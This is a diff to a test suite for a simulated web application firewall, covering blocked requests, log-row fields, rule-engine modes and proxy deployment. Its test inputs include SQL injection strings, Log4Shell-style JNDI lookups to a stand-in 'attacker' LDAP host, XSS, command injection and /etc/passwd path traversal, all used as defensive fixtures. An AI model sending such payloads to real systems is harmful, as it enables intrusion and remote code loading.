@@ -137,7 +137,11 @@ describe('the web application firewall', () => {
     ['932160', '/?host=example.com;cat%20x', {}],
     ['941100', '/?q=<script>alert(1)</script>', {}],
     ['941100', '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', {}],
+    ['942100', '/cart?artist=0+div+1+union%23foo*%2F*bar%0D%0Aselect%23foo%0D%0A1%2C2%2Ccurrent_user', {}],
+    ['942100', '/?id=1/**/union/**/all/**/select/**/2', {}],
     ['913100', '/', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }],
+    ['944150', '/', { headers: { 'X-Api-Version': '${jndi:ldap://attacker:1389/a}' } }],
+    ['944150', '/?x=%24%7B%24%7Blower:j%7Dndi:ldap://attacker/a%7D', {}],
   ])('rule %s refuses %s', (rule, path, more) => {
     askFor({ webApplicationFirewall: 'Enabled' });
     annotate();
@@ -157,11 +161,89 @@ describe('the web application firewall', () => {
     '/a..b/c',
     '/?email=someone%40example.com&again=50%25',
     '/%zz',
+    '/?q=the+union+of+two+sets',
+    '/?price=${amount}',
   ])('lets an honest %s pass', (path) => {
     askFor({ webApplicationFirewall: 'Enabled' });
     annotate();
     expect(request(path)).not.toBe(403);
     expect(logged('waf')).toEqual([]);
+  });
+});
+
+describe('the row of what broke the rules', () => {
+  const ATTACK = '/?file=/../../etc/passwd';
+
+  test('names every rule, what they add up to, both ends and the input', () => {
+    askFor({ webApplicationFirewall: 'Enabled' });
+    annotate();
+    request(ATTACK);
+    const [row] = logged('waf');
+    expect(row).toEqual({
+      '@timestamp': expect.any(Number),
+      request_id: expect.stringMatching(/^\d+$/),
+      source: { ip: '10.224.0.10', port_num: expect.any(Number), hostname: 'client' },
+      destination: { ip: expect.any(String), port_num: 80, hostname: expect.stringMatching(/^web-/) },
+      level: '',
+      method: 'GET',
+      path: ATTACK,
+      protocol: 'HTTP/1.1',
+      host: 'web.dev',
+      msg: 'WAF detected 3 violations [deny]',
+      rules: [
+        rule('930100', 'Path Traversal Attack (/../)', 'REQUEST-930-APPLICATION-ATTACK-LFI.conf'),
+        rule('930120', 'OS File Access Attempt', 'REQUEST-930-APPLICATION-ATTACK-LFI.conf'),
+        rule('949110', 'Inbound Anomaly Score Exceeded (Total Score: 10)', 'REQUEST-949-BLOCKING-EVALUATION.conf'),
+      ],
+      rule_info: expect.stringContaining('930100: Path Traversal Attack (/../); 930120:'),
+      node: expect.stringMatching(/^node-/),
+    });
+    expect(world.calico.logs.all('waf')[0]!.inputs).toEqual([3]);
+  });
+
+  const rule = (id: string, message: string, file: string) => ({
+    id,
+    message,
+    file,
+    severity: 'critical',
+    line: '-',
+    disruptive: true,
+  });
+
+  test.each([
+    ['DetectionOnly', 200, '[pass]'],
+    ['On', 403, '[deny]'],
+    ['"detectiononly"', 200, '[pass]'],
+    ['Off', 200, undefined],
+  ])('SecRuleEngine %s in the rule set answers %i', (mode, status, ending) => {
+    askFor({ webApplicationFirewall: 'Enabled' });
+    annotate();
+    world.cluster.store.update('configmaps', 'tigera-operator', 'modsecurity-ruleset', (rules) => {
+      rules['data'] = { 'modsecdefault.conf': `# SecRuleEngine On\nSecRuleEngine ${mode}\n` };
+    });
+    expect(request(ATTACK)).toBe(status);
+    const [row] = logged('waf');
+    expect(row?.['msg']?.endsWith(ending) ?? undefined).toBe(ending && true);
+  });
+
+  test('a request that breaks the rules and is let pass may still be refused by policy', () => {
+    askFor({ webApplicationFirewall: 'Enabled', applicationLayerPolicy: 'Enabled' });
+    annotate();
+    world.cluster.store.update('configmaps', 'tigera-operator', 'modsecurity-ruleset', (rules) => {
+      rules['data'] = { 'modsecdefault.conf': 'SecRuleEngine DetectionOnly' };
+    });
+    world.cluster.store.create({
+      apiVersion: 'projectcalico.org/v3',
+      kind: 'NetworkPolicy',
+      metadata: { namespace: 'dev', name: 'default.web' },
+      spec: {
+        selector: "app == 'web'",
+        types: ['Ingress'],
+        ingress: [{ action: 'Allow', http: { methods: ['PUT'] } }],
+      },
+    });
+    expect(request(ATTACK)).toBe(403);
+    expect(logged('waf')[0]).toMatchObject({ msg: 'WAF detected 3 violations [pass]' });
   });
 });
 
@@ -207,6 +289,38 @@ describe('policies on requests', () => {
     policy({ methods: ['PUT'] });
     expect(request('/')).toBe(200);
   });
+});
+
+test('the operator runs the proxies on every node, and takes them away again', () => {
+  const { store } = world.cluster;
+  store.create({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'calico-system' } });
+  const containers = () =>
+    store
+      .get('daemonsets.apps', 'calico-system', 'l7-log-collector')
+      ?.['spec'].template.spec.containers.map(({ name }: { name: string }) => name);
+  askFor({ logCollection: { collectLogs: 'Enabled' } });
+  annotate();
+  expect(containers()).toEqual(['envoy-proxy', 'l7-collector']);
+  expect(store.get('configmaps', 'tigera-operator', 'modsecurity-ruleset')).toBeUndefined();
+  store.update('applicationlayers.operator.tigera.io', undefined, 'tigera-secure', (layer) => {
+    layer['spec'].webApplicationFirewall = 'Enabled';
+  });
+  expect(containers()).toEqual(['envoy-proxy', 'l7-collector', 'dikastes']);
+  expect(request('/../etc/passwd')).toBe(403);
+  store.delete('applicationlayers.operator.tigera.io', undefined, 'tigera-secure');
+  expect(containers()).toBeUndefined();
+  expect(request('/../etc/passwd')).toBe(404);
+});
+
+test('the proxy speaks for the server: names in lower case, itself as the server, the time that took', () => {
+  askFor({ logCollection: { collectLogs: 'Enabled' } });
+  annotate();
+  const origin = { from: world.network.pod('dev', 'client')! };
+  const { server } = world.network.open(origin, { protocol: 'tcp', ip: '10.0.112.45', port: 80 });
+  const sent = { method: 'GET', path: '/', host: 'web', headers: {}, body: '', now: world.clock.now() };
+  const headers = Object.fromEntries(server!.http!(sent).headers);
+  expect(headers).toMatchObject({ server: 'envoy', 'x-envoy-upstream-service-time': '1', 'content-length': '615' });
+  expect(Object.keys(headers).every((name) => name === name.toLowerCase())).toBe(true);
 });
 
 test('tigerastatus follows the ApplicationLayer', () => {
